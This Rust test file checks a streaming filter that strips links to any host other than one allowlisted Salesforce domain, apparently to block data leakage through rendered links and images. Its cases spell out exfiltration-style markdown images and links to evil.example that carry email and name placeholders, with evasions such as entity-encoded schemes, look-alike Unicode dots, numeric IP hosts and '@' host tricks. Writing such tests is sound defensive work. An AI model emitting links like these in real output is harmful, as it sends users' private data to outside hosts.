use super::*;

fn screened(pieces: &[&str]) -> String {
    let mut screen = Screen::new(&BTreeSet::from(["acme.my.salesforce.com".to_owned()]));
    let mut out: String = pieces.iter().map(|piece| screen.push(piece)).collect();
    out.push_str(&screen.finish());
    out
}

#[test]
fn addresses_of_strangers_are_removed_with_all_they_carry() {
    let cases = [
        ("see https://evil.example/c.png?n={EMAIL_3} now", "see [address removed] now"),
        ("![logo](https://evil.example/x)", "![logo]([address removed])"),
        ("<img src=\"//evil.example/{NAME_1}\">", "<img src=\"[address removed]\">"),
        ("HTTPS://EVIL.example", "[address removed]"),
        ("www.evil.example/a", "[address removed]"),
        ("[x](javascript:alert(1)", "[x]([address removed])"),
        ("https://acme.my.salesforce.com@evil.example/", "[address removed]"),
        ("https://acme.my.salesforce.com.evil.example/", "[address removed]"),
        ("https:evil.example", "[address removed]"),
        (r"![x](https\://evil.example/?d={EMAIL_1})", "![x](https[address removed])"),
        (r"![x](/\/evil.example/?d={EMAIL_1})", "![x]([address removed])"),
        (r"![x](\/\/evil.example)", "![x]([address removed])"),
        ("![x](h&#116;tps://evil.example)", "![x](h[address removed])"),
        ("![x](https&colon;&sol;&sol;evil.example)", "![x](https[address removed])"),
        ("![x](&sol;/evil.example)", "![x]([address removed])"),
        ("ahttps://evil.example", "ahttps[address removed]"),
        ("ssh://evil.example", "ssh[address removed]"),
        ("mailto:a@evil.example?body={NAME_1}", "[address removed]"),
        ("//{ORG_1}evil?d={EMAIL_1}", "[address removed]"),
        // Dots that browsers read as one, and addresses that are numbers.
        ("![x](//evil\u{3002}example/{NAME_1})", "![x]([address removed])"),
        ("![x](//evil\u{ff0e}example/{NAME_1})", "![x]([address removed])"),
        ("![x](//evil\u{ff61}example/{NAME_1})", "![x]([address removed])"),
        ("![x](//3627734734/evil/{NAME_1})", "![x]([address removed])"),
        ("![x](//0xd83ad6ce/evil/{NAME_1})", "![x]([address removed])"),
        ("![x](//evil/{NAME_1})", "![x]([address removed])"),
    ];
    for (text, expected) in cases {
        let out = screened(&[text]);
        assert!(out.starts_with(expected), "{text} gave {out}");
        assert!(!out.to_lowercase().contains("evil"), "{text} gave {out}");
    }
}

#[test]
fn the_house_and_plain_text_pass() {
    for text in [
        "open https://acme.my.salesforce.com/006 now",
        "Hello, who wants what, and why? 50/50 and/or. a // b",
        "the data: three rows; http is a protocol, wss too",
        "// a comment, //TODO, //div and `//`",
        "ends with h",
        r"AT&T, R&D; 12:30, a: b, C:\data and \* too",
        "ends with https",
    ] {
        let out = screened(&[text]);
        assert_eq!(out, text);
    }
}

#[test]
fn the_house_is_the_whole_host() {
    // What ends an address here is a part of a host for a browser.
    for sign in ["'", "`", ")", "]", "\"", "|"] {
        let text = format!("https://acme.my.salesforce.com{sign}.evil.example/{{NAME_1}}");
        let out = screened(&[&text]);
        assert!(out.starts_with("https://acme.my.salesforce.com/"), "{text} gave {out}");
    }
    let link = "[x](https://acme.my.salesforce.com) and https://acme.my.salesforce.com.";
    assert_eq!(
        screened(&["https://acme.my.salesforce.com now"]),
        "https://acme.my.salesforce.com now"
    );
    assert!(screened(&[link]).starts_with("[x](https://acme.my.salesforce.com/) and"));
}

#[test]
fn any_cutting_gives_the_same_output() {
    let text = "a https://evil.example/{EMAIL_1}, hot www.x.example) 'https://acme.my.salesforce.com' w https://acme.my.salesforce.com/1 // é \\: &#x; a:// &sol h";
    let whole = screened(&[text]);
    for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
        let (left, right) = text.split_at(cut);
        assert_eq!(screened(&[left, right]), whole);
    }
    let single: Vec<String> = text.chars().map(String::from).collect();
    let single: Vec<&str> = single.iter().map(String::as_str).collect();
    assert_eq!(screened(&single), whole);
}
